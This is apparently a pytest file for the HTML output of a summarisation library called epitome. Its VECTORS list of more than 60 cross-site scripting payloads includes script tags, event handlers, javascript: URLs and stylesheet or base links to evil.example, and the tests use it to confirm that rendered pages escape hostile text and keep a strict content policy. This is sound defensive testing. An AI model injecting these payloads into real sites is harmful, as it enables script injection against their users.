"""The HTML pages: marks at exactly the chosen offsets, and no word of a document ever becomes markup."""

from __future__ import annotations

import re
from base64 import b64encode
from dataclasses import replace
from hashlib import sha256

import pytest
from lxml import html as lxml_html

import epitome
from epitome import Document
from epitome.document.render import html_page, outline_page, replace_controls
from epitome.runtime.safe import clean_text

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</p></details></article></main><script>alert(1)</script>",
    "</mark></bdi><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=//evil.example/>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    "<table background=javascript:alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" style="x:y" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\x0c>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u2066",
    "{{constructor.constructor('alert(1)')()}}",
    "<a id=s0-0-0><a name=d0>",
    "<mark id=s0-0-0>fake</mark>",
    "\ufeff<script>alert(1)</script>",
]
PLACES = ["title", "text", "section", "query", "id", "url", "note", "author", "date"]
TAGS = set(
    "html head meta title style body header h1 main article h2 h3 h4 p b ol li bdi span a details summary "
    "table tr th td mark nav ul section pre".split()
)
ATTRIBUTES = set("lang charset http-equiv content name class href rel id open".split())


def made(place: str, word: str) -> tuple[Document, str]:
    """A web page that holds a word at one place, and its query."""

    def at(name: str, otherwise: str) -> str:
        return word if name == place else otherwise

    document = Document.from_sentences(
        [at("text", "The first sentence."), "A second sentence.", f"Third: {at('text', 'sentence')} ends."],
        title=at("title", "A title"),
        id=at("id", "page.html"),
        sections=[[at("section", "Part one")]] * 2 + [[at("section", "Part one"), "Part two"]],
        date=at("date", "2024-05-06"),
    )
    return (
        replace(
            document,
            media="html",
            url=word if place == "url" else None,
            notes=(at("note", "a note"),),
            authors=(at("author", "A. Author"), "B. Author"),
        ),
        at("query", "a query"),
    )


def page_of(kind: str, place: str, word: str) -> str:
    document, query = made(place, word)
    summary = epitome.summarise(document, query=query, system="lead", sentences=2)
    if kind == "summary":
        return html_page([summary])
    outline = epitome.outline(document, query=query, system="lead")
    return outline_page([(outline, summary)], title=word)


def parsed(page: str) -> lxml_html.HtmlElement:
    return lxml_html.document_fromstring(page.encode())


def skeleton(root: lxml_html.HtmlElement) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
    """Every element with its attributes; only where the links lead out may differ."""
    made: list[tuple[str, tuple[tuple[str, str], ...]]] = []
    for element in root.iter():
        assert isinstance(element.tag, str), f"a comment or an instruction: {element!r}"
        attributes = {str(k): str(v) for k, v in element.attrib.items()}
        if attributes.get("rel") == "noopener noreferrer":
            attributes["href"] = "out"
        made.append((element.tag, tuple(sorted(attributes.items()))))
    return made


def check_only_the_template(root: lxml_html.HtmlElement, vector: str) -> None:
    """Nothing but the template's elements and attributes, and no link that could run code or leave the web."""
    for element in root.iter():
        assert element.tag in TAGS, vector
        assert set(element.attrib) <= ATTRIBUTES, vector
        href = str(element.get("href", "#"))
        scheme = re.match(r"[\x00-\x20]*([a-z][a-z0-9+.\-]*):", href, re.IGNORECASE)
        assert scheme is None or scheme.group(1).lower() in {"http", "https"}, vector
        assert not href.startswith("//"), vector


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", ["summary", "outline"])
def test_hostile_words_stay_words(kind: str, place: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("epitome.api.outline.FEWEST_WORDS", 0)  # whatever the words, the section is told
    monkeypatch.setattr("epitome.api.outline.FEWEST_TERMS", 0)
    assert len(set(VECTORS)) >= 60
    template = skeleton(parsed(page_of(kind, place, "https://example.org/" if place == "url" else "harmless")))
    # an address that is none may be left out
    without_link = [e for e in template if ("rel", "noopener noreferrer") not in e[1]]
    for vector in VECTORS:
        root = parsed(page_of(kind, place, vector))
        check_only_the_template(root, vector)
        assert skeleton(root) == template or (place == "url" and skeleton(root) == without_link), vector
        shown = re.sub(r"[\n\r\f]", " ", root.text_content())
        forms = [re.sub(r"[\n\r\f]", " ", replace_controls(form)) for form in (vector, clean_text(vector))]
        if place == "date":  # blanks in a date are one
            shown, *forms = (" ".join(text.split()) for text in (shown, *forms))
        assert place == "url" or any(form in shown for form in forms), vector


def test_no_character_of_a_page_speaks_to_a_terminal() -> None:
    document, _ = made("text", "\x1b]0;owned\x07 \x9b31m \u202e \x00 \ud800")
    page = html_page([epitome.summarise(document, sentences=3)])
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", page)
    assert page.encode("utf-8")


@pytest.mark.parametrize("kind", ["summary", "outline"])
def test_the_policy_allows_nothing_but_the_pages_own_style(kind: str) -> None:
    root = parsed(page_of(kind, "title", "x"))
    (policy,) = root.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    rules = {r.split()[0]: r.split()[1:] for r in str(policy).split(";")}
    (style,) = root.iter("style")
    digest = b64encode(sha256((style.text or "").encode()).digest()).decode()
    assert rules == {
        "default-src": ["'none'"],
        "style-src": [f"'sha256-{digest}'"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }
    assert "unsafe-inline" not in str(policy)
    assert root.xpath("//@style") == [] and root.xpath("//@src") == []
    (head,) = root.iter("head")
    assert [c.get("charset") or c.get("http-equiv") or c.tag for c in head][:2] == ["utf-8", "Content-Security-Policy"]


def test_the_style_loads_nothing() -> None:
    (style,) = parsed(page_of("summary", "title", "x")).iter("style")
    assert not re.search(r"url\(|@import|expression|javascript|<", style.text or "")


ARTICLE = b"""<?xml version="1.0"?>
<article><front><article-meta><title-group><article-title>Canals &amp; boats</article-title></title-group>
<abstract><p>An abstract about canals. It has two sentences.</p></abstract></article-meta></front><body>
<sec><title>Digging &lt;by hand&gt;</title><p>Men dug the canal with spades &amp; barrows. The "puddle" made it
&lt;tight&gt;. Nobody had done it before.</p>
<list><list-item><p>Clay comes first in every part of the canal.</p></list-item></list>
<sec><title>Locks</title><p>A lock lifts the boat. It has two gates, and each gate has a paddle that lets water
through.</p></sec></sec>
<sec><title>Boats</title><p>A horse pulls the boat along the canal. A horse pulls the boat along the canal.</p></sec>
</body></article>"""
PAGE = b"""<html><head><title>Canals &amp; boats</title></head><body><h1>Canals &amp; boats</h1>
<p>Men dug the canal &lt;by hand&gt;. It took <b>ten</b> years &amp; more.</p>
<ul><li>Clay comes first in the canal.</li></ul>
<h2>Boats</h2><p>A horse pulls the boat along the canal.</p><pre>code &lt;here&gt;</pre></body></html>"""
TEXT = b"Canals\n\nMen dug the canal <by hand>. It took ten years & more.\n\nA horse pulls the boat along the canal.\n"


@pytest.mark.parametrize("data", [ARTICLE, PAGE, TEXT], ids=["xml", "html", "text"])
@pytest.mark.parametrize("budget", [{"sentences": 1}, {"sentences": 3}, {"ratio": 1.0}, {"characters": 60}], ids=str)
@pytest.mark.parametrize("order", ["document", "rank"])
def test_marks_stand_at_exactly_the_chosen_offsets(data: bytes, budget: dict[str, float], order: str) -> None:
    document = epitome.read(data)
    summary = epitome.summarise(document, query="canal boat", order=order, **budget)  # type: ignore[arg-type]
    root = parsed(html_page([summary]))
    (view,) = root.xpath("//details[@open]")
    shown = list(view)[1:]
    assert len(shown) == len(document.blocks)
    marked: list[tuple[int, int, str]] = []
    for block, element in zip(document.blocks, shown, strict=True):
        text = element.text_content()
        bullet = 2 if block.kind == "item" else 0
        assert text[bullet:] == document.text[block.start : block.end]
        for mark in element.iter("mark"):
            start = block.start + len(text_before(element, mark)) - bullet
            content = mark.text_content()
            marked.append((start, start + len(content), content))
    assert marked == sorted((e.start, e.end, e.text) for e in summary)


def text_before(element: lxml_html.HtmlElement, mark: lxml_html.HtmlElement) -> str:
    """The text inside an element that stands before one of its descendants."""
    pieces: list[str] = []

    def walk(at: lxml_html.HtmlElement) -> bool:
        if at is mark:
            return True
        pieces.append(at.text or "")
        for child in at:
            if walk(child):
                return True
            pieces.append(child.tail or "")
        return False

    assert walk(element)
    return "".join(pieces)


def test_every_chosen_sentence_links_to_its_mark_and_ids_are_unique() -> None:
    first, second = epitome.read(ARTICLE), epitome.read(PAGE)
    pages = [epitome.summarise(d, query="canal", sentences=3) for d in (first, second)]
    root = parsed(html_page(pages))
    identifiers = [str(i) for i in root.xpath("//@id")]
    assert len(identifiers) == len(set(identifiers))
    targets = [str(h) for h in root.xpath("//ol[@class='chosen']//a[starts-with(@href, '#s')]/@href")]
    assert len(targets) == sum(map(len, pages))
    texts = [root.get_element_by_id(t[1:]).text_content() for t in targets]
    assert texts == [e.text for page in pages for e in page]


def test_a_page_of_several_documents_marks_each_sentence_in_its_own() -> None:
    documents = [
        Document.from_sentences(["A red boat sails by.", "It is late."], id="a"),
        Document.from_sentences(["Nobody saw it.", "A blue boat sails by."], id="b"),
    ]
    root = parsed(html_page([epitome.summarise(documents, query="boat", system="tfidf", sentences=2)]))
    marks = [[m.text_content() for m in article.iter("mark")] for article in root.iter("article")]
    assert marks == [["A red boat sails by."], ["A blue boat sails by."]]


def test_two_documents_of_one_name_keep_their_own_marks() -> None:
    documents = [
        epitome.read(b"A red boat sails by the town. It is late."),
        epitome.read(b"Nobody saw it. A blue boat sails by the town."),
    ]
    root = parsed(html_page([epitome.summarise(documents, query="boat", system="tfidf", sentences=2)]))
    marks = [[m.text_content() for m in article.iter("mark")] for article in root.iter("article")]
    assert marks == [["A red boat sails by the town."], ["A blue boat sails by the town."]]


def test_cut_sentences_are_marked_as_cut() -> None:
    document = Document.from_sentences(["A long sentence about boats on the canal."])
    root = parsed(html_page([epitome.summarise(document, characters=15)]))
    (mark,) = root.iter("mark")
    assert (mark.get("class"), mark.text_content(), mark.tail) == (
        "cut",
        "A long sentence",
        " about boats on the canal.",
    )


def test_web_pages_link_to_the_sentence_and_others_do_not() -> None:
    page = replace(epitome.read(PAGE), url="https://example.org/canals?a=1&b=2")
    root = parsed(html_page([epitome.summarise(page, query="horse", system="tfidf", sentences=1)]))
    (link,) = root.xpath("//a[@rel='noopener noreferrer']")
    assert link.get("href") == (
        "https://example.org/canals?a=1&b=2#:~:text=A%20horse%20pulls%20the%20boat%20along%20the%20canal."
    )
    for data in (ARTICLE, TEXT):
        root = parsed(html_page([epitome.summarise(epitome.read(data), query="horse")]))
        assert root.xpath("//a[not(starts-with(@href, '#'))]") == []


def test_the_outline_page_leads_to_every_document_and_shows_every_section() -> None:
    documents = [epitome.read(ARTICLE), epitome.read(PAGE)]
    entries = [(epitome.outline(d, sentences=1), epitome.summarise(d)) for d in documents]
    root = parsed(outline_page(entries, title="Two documents"))
    for href in root.xpath("//nav//a/@href"):
        assert root.get_element_by_id(str(href)[1:]).tag == "section"
    titles = [t.text_content() for t in root.xpath("//span[@class='title']")]
    assert titles == [s.title for o, _ in entries for s, _ in list(o)[1:]]
    assert root.findtext("head/title") == "Two documents"


def test_to_html_is_the_page_of_one_summary() -> None:
    summary = epitome.summarise(epitome.read(ARTICLE))
    assert summary.to_html() == html_page([summary])
    assert parsed(summary.to_html()).findtext("head/title") == "Canals & boats"


def test_the_tables_of_reasons_add_up() -> None:
    summary = epitome.summarise(epitome.read(ARTICLE), query="canal boat", sentences=3)
    tables = parsed(summary.to_html()).xpath("//table[@class='why']")
    assert len(tables) == len(summary) > 1
    for table, extract in zip(tables, sorted(summary, key=lambda e: e.rank), strict=True):
        numbers = [float(c.text_content()) for c in table.xpath(".//td[@class='number']")]
        assert extract.score == pytest.approx(sum(numbers), abs=0.0005 * (len(numbers) + 1))  # each is rounded


def test_a_page_of_nothing_is_a_page() -> None:
    assert parsed(html_page([])).findtext("head/title") == "epitome"
